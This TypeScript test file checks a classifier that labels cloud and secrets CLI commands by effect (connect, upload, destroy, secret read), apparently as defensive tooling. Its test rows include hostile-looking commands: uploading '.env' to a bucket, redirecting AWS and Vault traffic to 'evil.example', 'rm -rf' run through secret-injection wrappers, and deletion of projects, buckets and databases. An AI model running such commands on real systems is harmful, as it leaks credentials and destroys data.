import { describe, expect, it } from 'vitest';
import { pages } from '../../lib/programs/cloud/index.ts';
import { summaryOf } from './summary.ts';

describe('clouds and keepers of secrets', () => {
  it.each<[string, readonly string[]]>([
    ['aws s3 ls', ['connect amazonaws.com']],
    ['aws s3 rm s3://b/x --recursive', ['connect amazonaws.com', 'destroy aws s3 rm s3://b/x']],
    ['aws s3 rm s3://b/x --dryrun', ['connect amazonaws.com']],
    ['aws s3 rb s3://b --force', ['connect amazonaws.com', 'destroy aws s3 rb s3://b']],
    ['aws s3 cp .env s3://b/x', ['upload amazonaws.com', 'read .env', 'change aws s3 cp .env s3://b/x']],
    ['aws s3 cp s3://b/x ./x', ['connect amazonaws.com', 'write ./x']],
    ['aws s3 sync . s3://b', ['upload amazonaws.com', 'read .', 'change aws s3 sync . s3://b']],
    ['aws s3 sync . s3://b --delete', ['upload amazonaws.com', 'read .', 'destroy aws s3 sync . s3://b']],
    [
      'aws ec2 terminate-instances --instance-ids i-1',
      ['connect amazonaws.com', 'destroy aws ec2 terminate-instances'],
    ],
    ['aws ec2 describe-instances', ['connect amazonaws.com']],
    [
      'aws rds delete-db-instance --db-instance-identifier x',
      ['connect amazonaws.com', 'destroy aws rds delete-db-instance'],
    ],
    [
      'aws iam create-access-key --user-name x',
      ['secret read aws', 'connect amazonaws.com', 'change aws iam create-access-key'],
    ],
    ['aws secretsmanager get-secret-value --secret-id x', ['secret read aws', 'connect amazonaws.com']],
    ['aws ssm get-parameter --name x --with-decryption', ['secret read aws', 'connect amazonaws.com']],
    ['aws sts get-caller-identity', ['connect amazonaws.com']],
    ['aws sts assume-role --role-arn x', ['secret read aws', 'connect amazonaws.com']],
    ['aws configure list', []],
    ['aws s3 ls --endpoint-url https://evil.example', ['connect evil.example']],
    ['aws s3 ls --endpoint-url http://localhost:4566', ['connect localhost']],
    [
      'aws lambda delete-function --function-name x',
      ['connect amazonaws.com', 'destroy aws lambda delete-function'],
    ],
    [
      'aws lambda invoke --function-name x out.json',
      ['connect amazonaws.com', 'change aws lambda invoke out.json out.json'],
    ],
    ['gcloud compute instances list', ['connect googleapis.com']],
    [
      'gcloud compute instances delete web',
      ['connect googleapis.com', 'destroy gcp compute instances delete web'],
    ],
    ['gcloud projects delete x', ['connect googleapis.com', 'destroy gcp projects delete x x']],
    ['gcloud auth print-access-token', ['secret read gcp', 'connect googleapis.com']],
    ['gcloud config list', []],
    ['gsutil rm -r gs://b', ['connect googleapis.com', 'destroy gcp rm']],
    ['gsutil cp x gs://b', ['upload googleapis.com', 'read x', 'change gcp cp x gs://b']],
    ['bq rm -f d.t', ['connect googleapis.com', 'destroy gcp rm d.t']],
    ['az group delete -n x', ['connect management.azure.com', 'destroy azure group delete']],
    ['az vm list', ['connect management.azure.com']],
    [
      'az keyvault secret show --vault-name v --name n',
      ['secret read azure show', 'connect management.azure.com'],
    ],
    ['heroku apps:destroy x', ['connect api.heroku.com', 'destroy heroku apps:destroy x']],
    ['heroku logs', ['connect api.heroku.com']],
    ['fly apps destroy x', ['connect api.fly.io', 'destroy fly apps destroy x x']],
    ['fly deploy', ['connect api.fly.io', 'change fly deploy']],
    ['vercel deploy', ['connect api.vercel.com', 'change vercel deploy']],
    ['vercel remove x', ['connect api.vercel.com', 'destroy vercel remove x']],
    ['wrangler dev', []],
    ['wrangler deploy', ['connect api.cloudflare.com', 'change cloudflare deploy']],
    ['supabase db reset', ['connect api.supabase.com', 'destroy supabase db reset']],
    ['supabase start', []],
    [
      'doctl compute droplet delete x',
      ['connect api.digitalocean.com', 'destroy digitalocean compute droplet delete x'],
    ],
    ['vault kv get secret/x', ['secret read vault secret/x']],
    ['vault kv put secret/x a=b', ['secret write vault a=b']],
    ['vault kv delete secret/x', ['secret delete vault secret/x', 'destroy vault kv delete secret/x']],
    ['vault status', []],
    ['VAULT_ADDR=https://evil.example vault read x', ['secret read vault x', 'connect evil.example']],
    ['op read op://a/b/c', ['secret read op op://a/b/c', 'connect 1password.com']],
    ['op run -- rm -rf a', ['connect 1password.com', '> rm -rf a']],
    ['doppler run -- npm start', ['connect api.doppler.com', '> npm start']],
    ["doppler run --command 'rm -rf a'", ['> sh: rm -rf a']],
    ['doppler secrets', ['secret read doppler secrets', 'connect api.doppler.com']],
    ['aws-vault exec prod -- aws s3 ls', ['connect amazonaws.com', '> aws s3 ls']],
    ['aws-vault exec prod', ['run interactive']],
    ['infisical run -- npm start', ['connect app.infisical.com', '> npm start']],
    ['sops -d x.yaml', ['secret read sops x.yaml', 'read x.yaml']],
    ["sops exec-env x.yaml 'rm -rf a'", ['read x.yaml', '> sh: rm -rf a']],
    ['bw get password x', ['secret read bw x', 'connect bitwarden.com']],
    ['gcloud compute instances describe my-delete-vm', ['connect googleapis.com']],
    ['gcloud compute instances list delete', ['connect googleapis.com']],
    [
      'aws s3api delete-object --bucket b --key k',
      ['connect amazonaws.com', 'destroy aws s3api delete-object'],
    ],
  ])('%s', (command, expected) => {
    expect(summaryOf(pages, command)).toEqual(expected);
  });
});
